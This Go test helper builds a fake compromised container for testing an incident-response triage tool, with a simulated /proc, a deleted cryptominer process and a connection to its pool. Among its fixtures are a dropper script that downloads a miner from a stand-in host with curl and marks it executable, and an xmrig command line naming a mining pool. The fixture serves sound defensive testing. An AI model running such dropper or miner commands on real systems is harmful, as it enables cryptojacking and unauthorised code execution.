package triagetest

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// The container's story, for tests to assert on: a node application (pid
// 1) behind a load balancer, and a miner (pid MinerPID) started from
// MinerPath, deleted from disk since, talking to its pool and resolving
// names; a dropper script left in /var/tmp and a stub in /dev/shm.
const (
	MinerPID  = 47
	MinerPath = "/tmp/.cache/xmrig"
	// TaskIP is the task's address; Pool is the miner's pool, LB the load
	// balancer's node talking to the application.
	TaskIP  = "10.0.1.23"
	Pool    = "203.0.113.7:4444"
	LB      = "10.0.2.10:40000"
	AppPort = 8080
	Dropper = "/var/tmp/.update.sh"
	ShmStub = "/dev/shm/.k"
)

// MinerBytes stands in for the miner's binary: an ELF header, then text.
// It is not a program.
var MinerBytes = append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
	bytes.Repeat([]byte("irflow test stand-in for a deleted crypto-miner binary; not a program\n"), 900)...)

// MinerSHA256 is the hex SHA-256 of MinerBytes.
var MinerSHA256 = func() string { s := sha256.Sum256(MinerBytes); return hex.EncodeToString(s[:]) }()

// Root is a fake container written to disk.
type Root struct {
	// Dir is the container's "/".
	Dir string
	// base holds Dir, the deleted files' bytes, the readlink wrapper and
	// the busybox applets.
	base string
	opts Options
}

// Image is the set of shells a fake container has.
type Image int

// Images: Debian has /bin/sh (the host's) and coreutils; Busybox only
// /busybox/sh and busybox applets (distroless debug); NoShell none.
const (
	Debian Image = iota
	Busybox
	NoShell
)

// Options shape a fake container.
type Options struct {
	Image Image
}

// Write builds the container under dir (an empty or missing directory the
// caller removes afterwards).
func Write(dir string, o Options) (*Root, error) {
	r := &Root{Dir: filepath.Join(dir, "root"), base: dir, opts: o}
	w := &writer{root: r.Dir}
	r.tree(w)
	w.deleted(filepath.Join(dir, "deleted"), MinerPath, MinerBytes, fmt.Sprintf("proc/%d/exe", MinerPID))
	if w.err != nil {
		return nil, fmt.Errorf("triagetest: %w", w.err)
	}
	if err := r.tools(); err != nil {
		return nil, fmt.Errorf("triagetest: %w", err)
	}
	return r, nil
}

// tree writes the container's files and /proc.
func (r *Root) tree(w *writer) {
	w.file("proc/stat", "cpu  10 0 20 3000 0 0 0 0 0 0\nbtime 1700000000\nprocesses 120\n", 0o444)
	tcp := header + row(0, "0.0.0.0", AppPort, "0.0.0.0:0", "0A", 1000, 1001) +
		row(1, TaskIP, AppPort, LB, "01", 1000, 1002) +
		row(2, TaskIP, 51000, Pool, "01", 0, 2002)
	w.file("proc/net/tcp", tcp, 0o444)
	w.file("proc/net/udp", header+row(0, TaskIP, 53111, "10.0.0.2:53", "01", 0, 2003), 0o444)
	for _, t := range []string{"tcp6", "udp6", "raw", "raw6"} {
		w.file("proc/net/"+t, header, 0o444)
	}
	w.link("1", "proc/self")

	w.file("usr/local/bin/node", "\x7fELF irflow test stand-in for node; not a program\n", 0o755)
	w.file("app/server.js", "require('http').createServer().listen(8080)\n", 0o644)
	w.proc(1, "node", 0, 1000, 500, []string{"node", "server.js"}, "/usr/local/bin/node", "/app",
		map[int]string{0: "/dev/null", 1: "pipe:[901]", 2: "pipe:[902]", 3: "socket:[1001]", 4: "socket:[1002]"})

	w.file("tmp/.cache/config.json", `{"pools":[{"url":"`+Pool+`"}]}`+"\n", 0o644)
	w.proc(MinerPID, "xmrig", 1, 0, 90000, []string{MinerPath, "-o", Pool, "--donate-level", "0", "-B"}, "", "/tmp",
		map[int]string{0: "/dev/null", 3: "socket:[2002]", 4: "socket:[2003]", 5: "/tmp/.cache/config.json"})
	w.file("proc/47/maps", "00400000-0061a000 r-xp 00000000 103:01 4718 "+MinerPath+" (deleted)\n"+
		"7f3c00000000-7f3c00021000 rw-p 00000000 00:00 0 [heap]\n", 0o444)

	w.file(Dropper[1:], "#!/bin/sh\ncurl -s http://203.0.113.7/x -o "+MinerPath+" && chmod +x "+MinerPath+"\n", 0o755)
	w.file(ShmStub[1:], "\x7fELF stub\n", 0o755)
}

// tools writes the readlink wrapper and, for a busybox image, the applets.
func (r *Root) tools() error {
	readlink, err := exec.LookPath("readlink")
	if err != nil {
		return fmt.Errorf("no readlink on this machine: %w", err)
	}
	bin := filepath.Join(r.base, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		return err
	}
	// The wrapper prints link targets as the container sees them: the
	// root's prefix, or the deleted-files directory's, stripped.
	script := fmt.Sprintf("#!/bin/sh\nt=$(%s \"$@\") || exit $?\ncase $t in\n%s/*) t=${t#%s} ;;\n%s/*) t=${t#%s} ;;\nesac\nprintf '%%s\\n' \"$t\"\n",
		quote(readlink), quote(r.Dir), quote(r.Dir), quote(filepath.Join(r.base, "deleted")), quote(filepath.Join(r.base, "deleted")))
	if err := os.WriteFile(filepath.Join(bin, "readlink"), []byte(script), 0o755); err != nil {
		return err
	}
	if r.opts.Image != Busybox {
		return nil
	}
	bb, err := exec.LookPath("busybox")
	if err != nil {
		return fmt.Errorf("a Busybox image needs busybox on this machine: %w", err)
	}
	applets := filepath.Join(r.base, "busybox")
	if err := os.MkdirAll(applets, 0o755); err != nil {
		return err
	}
	for _, a := range []string{"base64", "od", "dd", "stat", "sha256sum", "ls"} {
		if err := os.Symlink(bb, filepath.Join(applets, a)); err != nil {
			return err
		}
	}
	return nil
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// header is the first line of every /proc/net table.
const header = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"

// row is one IPv4 line of /proc/net/{tcp,udp}: addresses in the kernel's
// little-endian hex.
func row(sl int, ip string, port int, remote, state string, uid, inode int) string {
	rp := netip.MustParseAddrPort(remote)
	return fmt.Sprintf("%4d: %s %s %s 00000000:00000000 00:00000000 00000000 %5d        0 %d 1 0000000000000000 20 4 30 10 -1\n",
		sl, hexAddr(netip.AddrPortFrom(netip.MustParseAddr(ip), uint16(port))), hexAddr(rp), state, uid, inode)
}

func hexAddr(ap netip.AddrPort) string {
	a := ap.Addr().As4()
	return fmt.Sprintf("%08X:%04X", binary.LittleEndian.Uint32(a[:]), ap.Port())
}

// writer writes files and links under root, keeping the first error.
type writer struct {
	root string
	err  error
}

func (w *writer) file(rel, data string, mode os.FileMode) {
	p := filepath.Join(w.root, rel)
	if w.err == nil {
		w.err = os.MkdirAll(filepath.Dir(p), 0o755)
	}
	if w.err == nil {
		w.err = os.WriteFile(p, []byte(data), mode)
	}
}

// link makes rel a symlink to target; an absolute target is a path in the
// container, made absolute under root.
func (w *writer) link(target, rel string) {
	if filepath.IsAbs(target) && !strings.HasPrefix(target, "/dev/") {
		target = filepath.Join(w.root, target)
	}
	p := filepath.Join(w.root, rel)
	if w.err == nil {
		w.err = os.MkdirAll(filepath.Dir(p), 0o755)
	}
	if w.err == nil {
		w.err = os.Symlink(target, p)
	}
}

// deleted keeps data, the content of a file deleted from path, outside the
// root and points rel (a /proc/<pid>/exe) at it, so that the link reads
// "<path> (deleted)" once the wrapper strips the directory.
func (w *writer) deleted(dir, path string, data []byte, rel string) {
	p := filepath.Join(dir, path+" (deleted)")
	if w.err == nil {
		w.err = os.MkdirAll(filepath.Dir(p), 0o755)
	}
	if w.err == nil {
		w.err = os.WriteFile(p, data, 0o755)
	}
	if w.err == nil {
		w.err = os.Symlink(p, filepath.Join(w.root, rel))
	}
}

// proc writes /proc/<pid>: stat, status, cmdline, and the exe (unless ""),
// cwd and fd links.
func (w *writer) proc(pid int, comm string, ppid, uid int, startTicks uint64, argv []string, exe, cwd string, fds map[int]string) {
	d := fmt.Sprintf("proc/%d/", pid)
	w.file(d+"stat", fmt.Sprintf("%d (%s) S %d %d 1 0 -1 4194560 100 0 0 0 5 3 0 0 20 0 4 0 %d 1000000 100 18446744073709551615\n",
		pid, comm, ppid, pid, startTicks), 0o444)
	w.file(d+"status", fmt.Sprintf("Name:\t%s\nPPid:\t%d\nUid:\t%d\t%d\t%d\t%d\nGid:\t%d\t%d\t%d\t%d\n",
		comm, ppid, uid, uid, uid, uid, uid, uid, uid, uid), 0o444)
	w.file(d+"cmdline", strings.Join(argv, "\x00")+"\x00", 0o444)
	if exe != "" {
		w.link(exe, d+"exe")
	}
	w.link(cwd, d+"cwd")
	for fd, target := range fds {
		w.link(target, fmt.Sprintf("%sfd/%d", d, fd))
	}
}
